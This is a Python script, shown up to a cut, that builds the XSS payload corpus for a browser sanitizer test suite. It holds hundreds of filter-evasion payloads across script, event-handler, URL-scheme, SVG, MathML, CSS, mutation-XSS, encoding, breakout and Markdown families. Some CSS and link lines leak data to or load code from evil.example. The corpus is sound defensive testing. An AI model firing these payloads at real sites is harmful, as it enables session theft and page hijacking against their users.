"""Write tests/data/xss_payloads.json: the hostile inputs of tests/browser/test_xss.py.

Run it after changing a family: ``python tests/data/make_xss_payloads.py``. Each payload
that would run script calls ``__xss(N)`` (or alert/confirm/prompt/print/open with N),
N being its number in the corpus, so an execution in the browser names its payload.
``NNN`` in a template below is replaced by that number.

The families are the classic ones (OWASP's filter-evasion cheat sheet, PortSwigger's
XSS cheat sheet, DOMPurify's mutation-XSS bugs) and those that only exist here: Markdown
(inline, reference and auto links, attribute lists, raw HTML blocks), YAML front matter,
feed fields and Jinja syntax.
"""

from __future__ import annotations

import base64
import json
from pathlib import Path

OUT = Path(__file__).with_name("xss_payloads.json")
H = "__xss(NNN)"  # the hook; NNN becomes the payload's number


def script_tags() -> list[str]:
    return [
        f"<script>{H}</script>",
        f"<SCRIPT>{H}</SCRIPT>",
        f"<ScRiPt>{H}</sCrIpT>",
        f"<script type='text/javascript'>{H}</script>",
        f"<script type=module>{H}</script>",
        f"<script\n>{H}</script\n>",
        f"<script/x>{H}</script>",
        f"<script x>{H}</script y>",
        "<script src=data:text/javascript,__xss(NNN)></script>",
        '<script src="data:,__xss(NNN)"></script>',
        "<script/src=data:,__xss(NNN)></script>",
        f"<<script>{H}//<</script>",
        f"<scr<script>ipt>{H}</scr</script>ipt>",
        f"<script>{H}</script",
        f"<script>{H}",
        "<script>alert(NNN)</script>",
        "<script>confirm(NNN)</script>",
        "<script>prompt(NNN)</script>",
        "<script>eval('__xss(NNN)')</script>",
        "<script>setTimeout('__xss(NNN)',0)</script>",
        "<script>window['__x'+'ss'](NNN)</script>",
        "<script>\\u005f\\u005fxss(NNN)</script>",
        "<script>Function('__xss(NNN)')()</script>",
        "<script>[NNN].find(__xss)</script>",
        "<script>document.write('<img src=x onerror=__xss(NNN)>')</script>",
        f"</title><script>{H}</script>",
        f"</textarea><script>{H}</script>",
        f"</style><script>{H}</script>",
        f"</noscript><script>{H}</script>",
        f"--><script>{H}</script>",
        f"]]><script>{H}</script>",
        f"</script><script>{H}</script>",
        f"<svg><script>{H}</script></svg>",
        "<svg><script href=data:,__xss(NNN) /></svg>",
        '<svg><script xlink:href="data:,__xss(NNN)"></script></svg>',
        f"<svg><script>{H}&lt;/script&gt;</script></svg>",
        f"<math><script>{H}</script></math>",
        f"<script>/*</script>*/{H}</script>",
        f"<script\x0c>{H}</script>",
        f"<script\t>{H}</script>",
        f"<script language=javascript>{H}</script>",
        f"<script event=onload for=window>{H}</script>",
        f"<script charset=utf-7>{H}</script>",
        f"<script defer>{H}</script>",
        f"<script async src=data:,{H}></script>",
        f"<script nonce=abc>{H}</script>",
    ]


# Handlers that fire without anyone touching the page: each with an element that fires it.
AUTO_EVENTS = [
    '<img src=x onerror="__xss(NNN)">',
    "<img src=x onerror='__xss(NNN)'>",
    "<img src=x onerror=__xss(NNN)>",
    "<img src=x onerror=`__xss(NNN)`>",
    "<img/src=x/onerror=__xss(NNN)>",
    "<img src=x onerror  =  __xss(NNN)>",
    "<img\nsrc=x\nonerror=__xss(NNN)>",
    "<img\tsrc=x\tonerror=__xss(NNN)>",
    "<img src=x OnErRoR=__xss(NNN)>",
    "<IMG SRC=x ONERROR=__xss(NNN)>",
    "<img src=x onerror=&#95;&#95;xss(NNN)>",
    "<img src=x onerror=&#x5f;&#x5f;xss(NNN)>",
    '<img src=x onerror="&#95;_xss&#40;NNN&#41;">',
    "<img src onerror=__xss(NNN)>",
    "<img src=x:x onerror=__xss(NNN)>",
    "<image src=x onerror=__xss(NNN)>",
    "<img srcset=x onerror=__xss(NNN)>",
    "<img src=x onerror=javascript:__xss(NNN)>",
    "<img src=x onerror=alert(NNN)>",
    "<img src=x onerror=confirm(NNN)>",
    "<img src=x onerror=prompt(NNN)>",
    "<img src=x onerror=print(NNN)>",
    "<img src=x onerror=window.open('javascript:__xss(NNN)')>",
    "<img src=x onerror=top['__xss'](NNN)>",
    "<img src=x onerror=window.onerror=__xss;throw+NNN>",
    "<img src=x onerror=eval(atob('@B64HOOK@'))>",
    "<picture><source srcset=x><img src=x onerror=__xss(NNN)></picture>",
    "<body onload=__xss(NNN)>",
    "<body onpageshow=__xss(NNN)>",
    "<body onfocus=__xss(NNN)>",
    "<svg onload=__xss(NNN)>",
    "<svg/onload=__xss(NNN)>",
    "<svg onload=__xss(NNN)//",
    "<svg\nonload=__xss(NNN)>",
    "<svg><g onload=__xss(NNN)></g></svg>",
    "<iframe onload=__xss(NNN)></iframe>",
    "<iframe src=x onload=__xss(NNN)></iframe>",
    "<object data=x onerror=__xss(NNN)></object>",
    "<video src=x onerror=__xss(NNN)></video>",
    "<video><source onerror=__xss(NNN)></video>",
    "<audio src=x onerror=__xss(NNN)></audio>",
    "<audio><source src=x onerror=__xss(NNN)></audio>",
    "<video poster=x onerror=__xss(NNN)></video>",
    "<input autofocus onfocus=__xss(NNN)>",
    "<input onfocus=__xss(NNN) autofocus>",
    "<select autofocus onfocus=__xss(NNN)></select>",
    "<textarea autofocus onfocus=__xss(NNN)></textarea>",
    "<keygen autofocus onfocus=__xss(NNN)>",
    "<button autofocus onfocus=__xss(NNN)>x</button>",
    "<a href=# autofocus onfocus=__xss(NNN)>x</a>",
    "<div tabindex=1 autofocus onfocus=__xss(NNN)>x</div>",
    "<div contenteditable autofocus onfocus=__xss(NNN)>x</div>",
    "<xss tabindex=1 autofocus onfocusin=__xss(NNN)>x</xss>",
    "<input onblur=__xss(NNN) autofocus><input autofocus>",
    "<details open ontoggle=__xss(NNN)>",
    "<details ontoggle=__xss(NNN) open><summary>x</summary></details>",
    "<marquee onstart=__xss(NNN)>x</marquee>",
    "<marquee loop=1 width=0 onfinish=__xss(NNN)>x</marquee>",
    "<input type=image src=x onerror=__xss(NNN)>",
    "<link rel=stylesheet href=x onerror=__xss(NNN)>",
    "<link rel=stylesheet href=data:,* onload=__xss(NNN)>",
    "<style onload=__xss(NNN)></style>",
    "<script src=x onerror=__xss(NNN)></script>",
    "<embed src=x onerror=__xss(NNN)>",
    "<track src=x onerror=__xss(NNN)>",
    "<svg><image href=x onerror=__xss(NNN)></image></svg>",
    "<svg><image xlink:href=x onerror=__xss(NNN)></image></svg>",
    "<svg><animate onbegin=__xss(NNN) attributeName=x dur=1s>",
    "<svg><set onbegin=__xss(NNN) attributeName=x to=1>",
    "<svg><animate onend=__xss(NNN) attributeName=x dur=0.001s>",
    "<svg><animatetransform onbegin=__xss(NNN) attributeName=transform>",
    "<svg><discard onbegin=__xss(NNN)>",
    "<frameset onload=__xss(NNN)>",
    "<body onresize=__xss(NNN)>",
    "<body onhashchange=__xss(NNN)>",
    "<body onmessage=__xss(NNN)>",
    '<div style="animation:x 1s" onanimationstart=__xss(NNN)>x</div>',
    "<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=__xss(NNN)>x</b>",
    "<p style=transition:color&#32;1s onmouseover=this.style.color='red' "
    "ontransitionend=__xss(NNN)>",
    "<form><input autofocus onfocus=__xss(NNN)></form>",
    "<img src=x id=NNN onerror=__xss(this.id)>",
    "<img src=1 onerror=__xss(NNN) src=2>",
    "<img onerror=1 onerror=__xss(NNN) src=x>",
    "<img src='x'onerror='__xss(NNN)'>",
    '<img src="x"onerror="__xss(NNN)">',
    "<img src=x onerror=__xss(NNN)&gt;",
    "<img src=x onerror=\\u005f_xss(NNN)>",
    "<img src=x onerror=__xss(NNN) >>",
    '<img src=x onerror="setTimeout(__xss,0,NNN)">',
    "<img src=x onerror=\"import('data:text/javascript,__xss(NNN)')\">",
    "<object type=text/html data=x onerror=__xss(NNN)></object>",
]

# Handlers that need a person: they must be gone all the same (checked on the markup).
USER_EVENTS = [
    "onclick",
    "ondblclick",
    "onmouseover",
    "onmouseenter",
    "onmousedown",
    "onpointerdown",
    "onpointerenter",
    "onkeydown",
    "onkeypress",
    "oninput",
    "onchange",
    "onwheel",
    "onscroll",
    "oncontextmenu",
    "ondrag",
    "ondrop",
    "oncopy",
    "onpaste",
    "oncut",
    "onsubmit",
    "oninvalid",
    "ontouchstart",
    "onauxclick",
    "onbeforeinput",
    "onselectstart",
    "onbeforetoggle",
    "onbeforeprint",
    "onafterprint",
    "onpopstate",
    "onunload",
    "onbeforeunload",
]


def event_handlers() -> list[str]:
    out = list(AUTO_EVENTS)
    carriers = [
        "<a href=https://example.org/ {e}=__xss(NNN)>x</a>",
        '<p {e}="__xss(NNN)">x</p>',
        "<span {e}='__xss(NNN)'>x</span>",
    ]
    for i, event in enumerate(USER_EVENTS):
        out.append(carriers[i % 3].format(e=event))
        out.append(f"<div {event.upper()}=__xss(NNN) tabindex=0>x</div>")
    return out


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


URLS = [
    "javascript:__xss(NNN)",
    "JaVaScRiPt:__xss(NNN)",
    "JAVASCRIPT:__xss(NNN)",
    " javascript:__xss(NNN)",
    "\tjavascript:__xss(NNN)",
    "\x01javascript:__xss(NNN)",
    "java\tscript:__xss(NNN)",
    "java\nscript:__xss(NNN)",
    "java&#x09;script:__xss(NNN)",
    "jav&#x0A;ascript:__xss(NNN)",
    "&#106;avascript:__xss(NNN)",
    "&#x6A;avascript:__xss(NNN)",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
    "&#0000116&#0000058__xss(NNN)",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;__xss(NNN)",
    "javascript&colon;__xss(NNN)",
    "javascript&#58;__xss(NNN)",
    "javascript&#x3a;__xss(NNN)",
    "javascript://%0a__xss(NNN)",
    "javascript://example.org/%0a__xss(NNN)",
    "javascript:alert(NNN)",
    "javascript:void(__xss(NNN))",
    "javascript:/*--></title></style></textarea></script></xmp>"
    "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+__xss(NNN)//'>",
    "data:text/html,<script>__xss(NNN)</script>",
    "data:text/html;base64,@B64SCRIPT@",
    "DATA:text/html;base64,@B64SCRIPT@",
    "data:text/html;charset=utf-8,%3Cscript%3E__xss(NNN)%3C/script%3E",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='__xss(NNN)'/>",
    "data:image/svg+xml;base64,@B64SVG@",
    "data:application/javascript,__xss(NNN)",
    "vbscript:msgbox(NNN)",
    "VBScript:__xss(NNN)",
    "livescript:__xss(NNN)",
    "mocha:__xss(NNN)",
    "jar:javascript:__xss(NNN)!/",
    "view-source:javascript:__xss(NNN)",
    "&#14;javascript:__xss(NNN)",
]

URL_CARRIERS = [
    '<a href="{u}">x</a>',
    "<img src='{u}'>",
    '<iframe src="{u}"></iframe>',
    "[x]({u})",
    "![x]({u})",
    "[x][r]\n\n[r]: {u}",
    '<form action="{u}"><input type=submit></form>',
    '<object data="{u}"></object>',
]


def url_schemes() -> list[str]:
    out = []
    for i, url in enumerate(URLS):
        # every scheme in a link, an image and a Markdown link; the rest spread out
        carriers = {0, 3, 4, 1 + i % 2, 5 + i % 3}
        out += [URL_CARRIERS[c].format(u=url) for c in sorted(carriers)]
    out += [
        "<javascript:__xss(NNN)>",
        "<JavaScript:__xss(NNN)>",
        "<data:text/html,<script>__xss(NNN)</script>>",
        "<vbscript:__xss(NNN)>",
        '<embed src="javascript:__xss(NNN)">',
        '<embed src="data:text/html;base64,@B64SCRIPT@">',
        "<a href=javascript&#58;__xss(NNN)>x</a>",
        "<a href='jav&#x09;ascript:__xss(NNN)'>x</a>",
        '<a href="javas&#99;ript:__xss(NNN)">x</a>',
        '<a href="  &#14;  javascript:__xss(NNN)">x</a>',
        '<a href="javascript:__xss(NNN)" target=_blank>x</a>',
        '<a href="%6Aavascript:__xss(NNN)">x</a>',
        '<a href="&#x2F;&#x2F;evil.example&#x2F;NNN">protocol-relative</a>',
        '<a href="\\\\evil.example\\NNN">backslashes</a>',
        '<img src="x" lowsrc="javascript:__xss(NNN)">',
        '<img dynsrc="javascript:__xss(NNN)">',
        '<bgsound src="javascript:__xss(NNN)">',
        "<video poster=javascript:__xss(NNN)></video>",
        "<input type=image src=javascript:__xss(NNN)>",
        '<link rel=import href="data:text/html,<script>__xss(NNN)</script>">',
        '<table background="javascript:__xss(NNN)"><tr><td>x</td></tr></table>',
        '<a href="https://example.org/" ping="https://evil.example/NNN">ping</a>',
        "<area href=javascript:__xss(NNN)>",
        "<a xlink:href=javascript:__xss(NNN)>x</a>",
    ]
    return out


def svg() -> list[str]:
    return [
        '<svg><a xlink:href="javascript:__xss(NNN)"><text x=20 y=20>x</text></a></svg>',
        '<svg><a href="javascript:__xss(NNN)"><rect width=99 height=99 /></a></svg>',
        "<svg><a><animate attributeName=href values=javascript:__xss(NNN) /><text y=9>x</text>"
        "</a></svg>",
        "<svg><a><set attributeName=href to=javascript:__xss(NNN) /><text y=9>x</text></a></svg>",
        "<svg><animate xlink:href=#x attributeName=href values=javascript:__xss(NNN) />"
        "<a id=x><text y=9>x</text></a></svg>",
        "<svg><set attributeName=onload to=__xss(NNN) /></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
        "<image href='1' onerror='__xss(NNN)'/></svg>#x\"></use></svg>",
        "<svg><foreignObject><img src=x onerror=__xss(NNN)></foreignObject></svg>",
        "<svg><foreignobject><iframe srcdoc='<script>__xss(NNN)</script>'></iframe>"
        "</foreignobject></svg>",
        "<svg><style><img src=x onerror=__xss(NNN)></style></svg>",
        "<svg><title><img src=x onerror=__xss(NNN)></title></svg>",
        "<svg><desc><img src=x onerror=__xss(NNN)></desc></svg>",
        "<svg><feImage href=javascript:__xss(NNN) /></svg>",
        "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='load'>"
        "__xss(NNN)</handler></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg'><script>__xss(NNN)</script></svg>",
        "<svg><script>&#95;_xss(NNN)</script></svg>",
        '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=__xss(NNN)>"></image>]]></svg>',
        "<svg><iframe onload=__xss(NNN)></iframe></svg>",
        '<svg><image href="data:image/svg+xml;base64,@B64SVG@"></image></svg>',
        "<svg><animate attributeName=onbegin values=__xss(NNN) /></svg>",
        "<svg width=10 height=10><circle r=5 onmouseover=__xss(NNN) /></svg>",
        "<svg><text><tspan onclick=__xss(NNN)>x</tspan></text></svg>",
        "<svg><script>a=document.createElement('img');a.src='x';a.onerror=()=>__xss(NNN);"
        "document.body.append(a)</script></svg>",
        '<img src="data:image/svg+xml;base64,@B64SVG@">',
        "<svg></p><img src=x onerror=__xss(NNN)>",
    ]


def mathml() -> list[str]:
    return [
        "<math><mtext><table><mglyph><style><img src=x onerror=__xss(NNN)>",
        '<math><mi xlink:href="javascript:__xss(NNN)">x</mi></math>',
        '<math href="javascript:__xss(NNN)"><mi>x</mi></math>',
        '<math><maction actiontype="statusline#http://x" xlink:href="javascript:__xss(NNN)">'
        "x</maction></math>",
        "<math><mtext><img src=x onerror=__xss(NNN)></mtext></math>",
        '<math><annotation-xml encoding="text/html"><img src=x onerror=__xss(NNN)>'
        "</annotation-xml></math>",
        '<math><annotation-xml encoding="application/xhtml+xml"><svg onload=__xss(NNN)>'
        "</annotation-xml></math>",
        "<math><style><img src=x onerror=__xss(NNN)></style></math>",
        "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style>"
        '<a title="</style><img src onerror=__xss(NNN)>"></style></mtext></svg></mglyph>'
        "</h1></mtext></math>",
        "<math><mi><img src=x onerror=__xss(NNN)></mi></math>",
        '<math><semantics><annotation-xml encoding="text/html"><style>'
        "<img src=x onerror=__xss(NNN)></style></annotation-xml></semantics></math>",
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;'
        '&lt;img&Tab;src=1&Tab;onerror=__xss(NNN)&gt;">',
        "<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style>"
        '<a title="</style><img src=x onerror=__xss(NNN)>">',
        "<math><a xlink:href=javascript:__xss(NNN)>x</a></math>",
        '<math><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=__xss(NNN) '
        'src=1>"></path></textarea></mtext></svg></mglyph></math>',
    ]


def css() -> list[str]:
    return [
        '<div style="background:url(javascript:__xss(NNN))">x</div>',
        '<div style="width:expression(__xss(NNN))">x</div>',
        '<div style="x:\\65xpression(__xss(NNN))">x</div>',
        '<div style="background-image:url(&#1;javascript:__xss(NNN))">x</div>',
        "<div style=\"-moz-binding:url('https://evil.example/x.xml#NNN')\">x</div>",
        '<div style="behavior:url(https://evil.example/NNN.htc)">x</div>',
        '<div style="background:url(data:image/svg+xml,<svg onload=__xss(NNN)>)">x</div>',
        "<style>@import 'javascript:__xss(NNN)';</style>",
        "<style>@import url(https://evil.example/NNN.css);</style>",
        '<style>body{background:url("javascript:__xss(NNN)")}</style>',
        '<style>li{list-style-image:url("javascript:__xss(NNN)")}</style><ul><li>x</li></ul>',
        "<style>*{x:expression(__xss(NNN))}</style>",
        "<style>input[value^=a]{background:url(https://evil.example/NNN)}</style>",
        "<style>body{display:none}</style>NNN hides the page",
        "<style>:root{--x:url(javascript:__xss(NNN))}</style>",
        '<link rel=stylesheet href="javascript:__xss(NNN)">',
        '<link rel=stylesheet href="data:text/css,*{x:expression(__xss(NNN))}">',
        '<link rel=stylesheet href="https://evil.example/NNN.css">',
        '<img style="position:fixed;inset:0;width:100%;height:100%" src=x onerror=__xss(NNN)>',
        '<a href=https://evil.example/NNN style="position:fixed;inset:0;z-index:9">cover</a>',
        "<p style=\"color:red;background:url('javascript:__xss(NNN)')\">x</p>",
        '<table><td background="javascript:__xss(NNN)">x</td></table>',
        '<body background="javascript:__xss(NNN)">',
        '<div style="background:url(java\\0script:__xss(NNN))">x</div>',
        "<span style=\"font-family:'</style><img src=x onerror=__xss(NNN)>'\">x</span>",
        "<style>/*</style><img src=x onerror=__xss(NNN)>*/</style>",
        "<style><!--</style><img src=x onerror=__xss(NNN)>--></style>",
        'Paragraph\n{: style="background:url(javascript:__xss(NNN))" }',
        '<xss style="xss:expression(__xss(NNN))">x</xss>',
        "<style>@font-face{font-family:x;src:url(javascript:__xss(NNN))}</style>",
    ]


RAW_TEXT = [
    "noscript",
    "style",
    "title",
    "textarea",
    "xmp",
    "iframe",
    "noembed",
    "noframes",
    "template",
    "script",
    "select",
    "option",
    "plaintext",
    "listing",
]


def mutation() -> list[str]:
    out = []
    for tag in RAW_TEXT:
        out.append(f'<{tag}><p title="</{tag}><img src=x onerror=__xss(NNN)>"></{tag}>')
        out.append(f"<{tag}><img src=x onerror=__xss(NNN)></{tag}>")
    out += [
        "<!--<img src=x onerror=__xss(NNN)>-->",
        "<!-- --!><img src=x onerror=__xss(NNN)> -->",
        "<!--><img src=x onerror=__xss(NNN)>-->",
        "<!---><img src=x onerror=__xss(NNN)>-->",
        "<? ><img src=x onerror=__xss(NNN)> ?>",
        "<![CDATA[><img src=x onerror=__xss(NNN)>]]>",
        "<!DOCTYPE x><img src=x onerror=__xss(NNN)>",
        "<!--[if IE]><img src=x onerror=__xss(NNN)><![endif]-->",
        "<!-- a -- ><img src=x onerror=__xss(NNN)> -->",
        '<a title="<!--"><img src=x onerror=__xss(NNN)>-->',
        '<svg></p><style><a id="</style><img src=1 onerror=__xss(NNN)>">',
        '<svg><p><style><a id="</style><img src=1 onerror=__xss(NNN)>">',
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss(NNN)>",
        "<svg><foreignobject><p><style><img src=x onerror=__xss(NNN)></style></p>"
        "</foreignobject></svg>",
        "<math><mi><svg><style><img src=x onerror=__xss(NNN)></style></svg></mi></math>",
        "<select><style></select><img src=x onerror=__xss(NNN)></style>",
        "<select><template><img src=x onerror=__xss(NNN)></template></select>",
        "<table><style><img src=x onerror=__xss(NNN)></style></table>",
        '<a href="</a><img src=x onerror=__xss(NNN)>">x</a>',
        "<table><tr><td><svg><desc><td></desc><img src=x onerror=__xss(NNN)></svg></td></tr>"
        "</table>",
        "<noscript><style></noscript><img src=x onerror=__xss(NNN)>",
        "<template><style></template><img src=x onerror=__xss(NNN)></style>",
        "<svg><style>&lt;img src=x onerror=__xss(NNN)&gt;</style></svg>",
        "<xmp><svg></xmp><img src=x onerror=__xss(NNN)>",
        "<textarea><!--</textarea><img src=x onerror=__xss(NNN)>-->",
        "<title><!--</title><img src=x onerror=__xss(NNN)>-->",
        "<iframe><iframe src=javascript:__xss(NNN)></iframe>",
        "<object><param name=src value=javascript:__xss(NNN)></object>",
        '<div id="1"><form id="foobar"></form><button form="test" '
        'formaction="javascript:__xss(NNN)">X</button></div>',
        '<svg><desc><svg><style><a title="</style><img src=x onerror=__xss(NNN)>"></a>'
        "</style></svg></desc></svg>",
        "<math><mtext><table><mglyph><svg><style><img src=x onerror=__xss(NNN)>",
        "<p><svg><style>*{}</style></svg><img src=x onerror=__xss(NNN)></p>",
        '<noembed><img title="</noembed><img src onerror=__xss(NNN)>"></noembed>',
        "<svg><![CDATA[</svg><img src=x onerror=__xss(NNN)>]]>",
        '<img src="x" alt="``onerror=__xss(NNN)">',
        "<listing>&lt;img src=x onerror=__xss(NNN)&gt;</listing>",
    ]
    return out


def broken() -> list[str]:
    return [
        '<img """><script>__xss(NNN)</script>">',
        '<img src="x\n" onerror="__xss(NNN)">',
        "<<img src=x onerror=__xss(NNN)>>",
        "<img src=x onerror=__xss(NNN)//",
        "<img src=x onerror=__xss(NNN) <",
        "<a <img src=x onerror=__xss(NNN)>",
        '<a href="x"<img src=x onerror=__xss(NNN)>',
        '<img/src="x"/onerror=__xss(NNN)/>',
        "<img src=x\x00onerror=__xss(NNN)>",
        '<img src=x onerror="__xss(NNN)"',
        "<b><i><u><img src=x onerror=__xss(NNN)></b></i>",
        "<p><table><img src=x onerror=__xss(NNN)></table>",
        "<a href=#><a href=#><img src=x onerror=__xss(NNN)></a></a>",
        "</p><img src=x onerror=__xss(NNN)>",
        "<br/onerror=__xss(NNN)>",
        "<isindex type=image src=1 onerror=__xss(NNN)>",
        "<img src=`x`onerror=__xss(NNN)>",
        "<img src=x onerror=\x0b__xss(NNN)>",
        "<div><div><div><div><div><img src=x onerror=__xss(NNN)></div>",
        "<p></p></p></p><img src=x onerror=__xss(NNN)>",
        "<img src=x onerror=__xss(NNN) /",
        "<img src=x: onerror=__xss(NNN)>>",
        "<ul><li><img src=x onerror=__xss(NNN)></ul></li>",
        "<h1><h2><img src=x onerror=__xss(NNN)></h1></h2>",
        "<img\x0csrc=x\x0conerror=__xss(NNN)>",
        "<img src=x onerror=__xss(NNN)\x00>",
        "<%<img src=x onerror=__xss(NNN)>",
        '<a href="https://example.org/\n<img src=x onerror=__xss(NNN)>">x</a>',
        '<img src="x" title="<img src=x onerror=__xss(NNN)>">',
        "<img src='x' alt='\"><img src=x onerror=__xss(NNN)>'>",
        "<</p>img src=x onerror=__xss(NNN)>",
        "<img src=x onerror=__xss(NNN)<!--",
        "<table><tr><td><img src=x onerror=__xss(NNN)></table></td>",
        '<img src=x onerror="__xss(NNN)"/><img src=x',
    ]


def entities() -> list[str]:
    return [
        "&lt;script&gt;__xss(NNN)&lt;/script&gt;",
        "&#60;script&#62;__xss(NNN)&#60;/script&#62;",
        "&#x3C;img src=x onerror=__xss(NNN)&#x3E;",
        "&LT;img src=x onerror=__xss(NNN)&GT;",
        "\\x3cscript\\x3e__xss(NNN)\\x3c/script\\x3e",
        "%3Cscript%3E__xss(NNN)%3C/script%3E",
        "\\u003cscript\\u003e__xss(NNN)\\u003c/script\\u003e",
        "&amp;lt;script&amp;gt;__xss(NNN)&amp;lt;/script&amp;gt;",
        "&amp;#60;img src=x onerror=__xss(NNN)&amp;#62;",
        "&#0000060script>__xss(NNN)&#0000060/script>",
        "&#x000003c;img src=x onerror=__xss(NNN)&#x000003e;",
        "&lt;img src=x onerror=__xss(NNN)&gt",
        "&ltimg src=x onerror=__xss(NNN)&gt",
        "`<img src=x onerror=__xss(NNN)>`",
        "```\n<script>__xss(NNN)</script>\n```",
        "    <img src=x onerror=__xss(NNN)>",
        "~~~html\n</code></pre><img src=x onerror=__xss(NNN)>\n~~~",
        "`</code><script>__xss(NNN)</script>`",
        '<img src=x onerror="&quot;__xss(NNN)&quot;">',
        "<img src=x onerror=&quot;__xss(NNN)&quot;>",
        "&quot;&gt;&lt;img src=x onerror=__xss(NNN)&gt;",
        "+ADw-script+AD4-__xss(NNN)+ADw-/script+AD4-",
        "\u003cimg src=x onerror=__xss(NNN)\u003e in a raw escape",
        "\uff1cscript\uff1e__xss(NNN)\uff1c/script\uff1e",
        "\u02c2img src=x onerror=__xss(NNN)\u02c3",
        '<a href="&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a__xss(NNN)">x</a>',
        '<a href="&Tab;javascript&colon;__xss(NNN)">x</a>',
        '<a href="javascript&NewLine;:__xss(NNN)">x</a>',
    ]


def breakouts() -> list[str]:
    return [
        '"><script>__xss(NNN)</script>',
        "'><script>__xss(NNN)</script>",
        "`><img src=x onerror=__xss(NNN)>",
        '" onmouseover="__xss(NNN)',
        "' onfocus='__xss(NNN)' autofocus='",
        '" autofocus onfocus="__xss(NNN)',
        '"/><svg onload=__xss(NNN)>',
        '" style="x:expression(__xss(NNN))',
        '"><img src=x onerror=__xss(NNN)>',
        "'><img src=x onerror=__xss(NNN)>",
        "</title><img src=x onerror=__xss(NNN)>",
        '"></a><img src=x onerror=__xss(NNN)>',
        '" accesskey="x" onclick="__xss(NNN)',
        '"\nonerror=__xss(NNN) x="',
        "');__xss(NNN);//",
        '";__xss(NNN);//',
        '\\";__xss(NNN);//',
        "</script ><script>__xss(NNN)</script >",
        '-->"><img src=x onerror=__xss(NNN)>',
        "]]><img src=x onerror=__xss(NNN)>",
        '" content="0;url=javascript:__xss(NNN)" http-equiv="refresh',
        '"><meta http-equiv="refresh" content="0;url=javascript:__xss(NNN)">',
        '" href="javascript:__xss(NNN)',
        "&quot; onmouseover=&quot;__xss(NNN)",
        "&#34;><img src=x onerror=__xss(NNN)>",
        '"onmouseover=__xss(NNN)//',
        "' oNfOcUs=__xss(NNN) autofocus x='",
        '"><iframe srcdoc="<script>__xss(NNN)</script>">',
        "</textarea><img src=x onerror=__xss(NNN)>",
        "</noscript><img src=x onerror=__xss(NNN)>",
        "</style><img src=x onerror=__xss(NNN)>",
        "</desc></svg><img src=x onerror=__xss(NNN)>",
        "</text></svg><img src=x onerror=__xss(NNN)>",
        "</loc><script>__xss(NNN)</script>",
        "</title></entry><entry><title><script>__xss(NNN)</script>",
        "</content><script>__xss(NNN)</script>",
        '","content_html":"<img src=x onerror=__xss(NNN)>',
        '\\"}]}<script>__xss(NNN)</script>',
        "\u2028\u2029<img src=x onerror=__xss(NNN)>",
        "\r\nSubject: injected NNN\r\n\r\n<script>__xss(NNN)</script>",
        "\nBEGIN:VEVENT\nSUMMARY:<script>__xss(NNN)</script>\nEND:VEVENT",
        '#{__xss(NNN)} " onload="__xss(NNN)',
    ]


# Values that stay valid http(s) URLs (no space) but try to leave the attribute they are in.
URL_BREAKOUTS = [
    'https://a.example/"onmouseover="__xss(NNN)',
    'https://a.example/"autofocus/onfocus="__xss(NNN)"x="',
    "https://a.example/'><svg/onload=__xss(NNN)>",
    'https://a.example/"><img/src=x/onerror=__xss(NNN)>',
    'https://a.example/#"><script>__xss(NNN)</script>',
    "https://a.example/?q=</a><img/src=x/onerror=__xss(NNN)>",
    "https://a.example/`><img/src=x/onerror=__xss(NNN)>",
    "https://a.example/&quot;onmouseover=&quot;__xss(NNN)",
    "https://a.example/&#34;><img/src=x/onerror=__xss(NNN)>",
    "https://javascript:__xss(NNN)@a.example/",
    "https://a.example/%22%3E%3Cscript%3E__xss(NNN)%3C/script%3E",
    'https://a.example/"style="background:url(javascript:__xss(NNN))',
    "http://a.example/]]><script>__xss(NNN)</script>",
    "https://a.example/</loc><script>__xss(NNN)</script>",
    'https://a.example/\\"}<script>__xss(NNN)</script>',
    'HTTPS://a.example/"><svg/onload=__xss(NNN)>',
    "https:javascript:__xss(NNN)",
    "https://a.example/'-__xss(NNN)-'",
    "http://a.example/?u=javascript:__xss(NNN)",
    "https://a.example/#javascript:__xss(NNN)",
    'https://a.example/"/onload=__xss(NNN)/"',
    "https://a.example/&lt;script&gt;__xss(NNN)&lt;/script&gt;",
]


def markdown() -> list[str]:
    return [
        "[x](<javascript:__xss(NNN)>)",
        "[x]( javascript:__xss(NNN) )",
        '[x](javascript:__xss(NNN) "title")',
        "[x](javascript:window.onerror=__xss;throw%20NNN)",
        "[x](javascript:__xss%28NNN%29)",
        "[x](\njavascript:__xss(NNN))",
        "[x](javascript:__xss(NNN)#)",
        '[x][r]\n\n[r]: <javascript:__xss(NNN)> "t"',
        "[r]\n\n[r]: javascript:__xss(NNN)",
        "[x][]\n\n[x]: javascript:__xss(NNN)",
        "[x]\n\n [x]:   javascript:__xss(NNN)   'title'",
        '<http://a.example/" onmouseover="__xss(NNN)>',
        "<https://a.example/><img src=x onerror=__xss(NNN)>",
        '![x" onerror="__xss(NNN)](https://a.example/x.png)',
        '![x](https://a.example/x.png "t\\" onerror=\\"__xss(NNN)")',
        '![x](https://a.example/x.png ""><img src=x onerror=__xss(NNN)>")',
        "![<img src=x onerror=__xss(NNN)>](https://a.example/x.png)",
        "[<img src=x onerror=__xss(NNN)>](https://a.example/)",
        '[x](https://a.example/"onmouseover="__xss(NNN))',
        '[x](https://a.example/#"><img src=x onerror=__xss(NNN)>)',
        '[x](https://a.example/ ""><img src=x onerror=__xss(NNN)>")',
        "[x](https://a.example/ 'a' onmouseover='__xss(NNN)')",
        "<div>\n<img src=x onerror=__xss(NNN)>\n</div>",
        '<div markdown="1">[x](javascript:__xss(NNN))</div>',
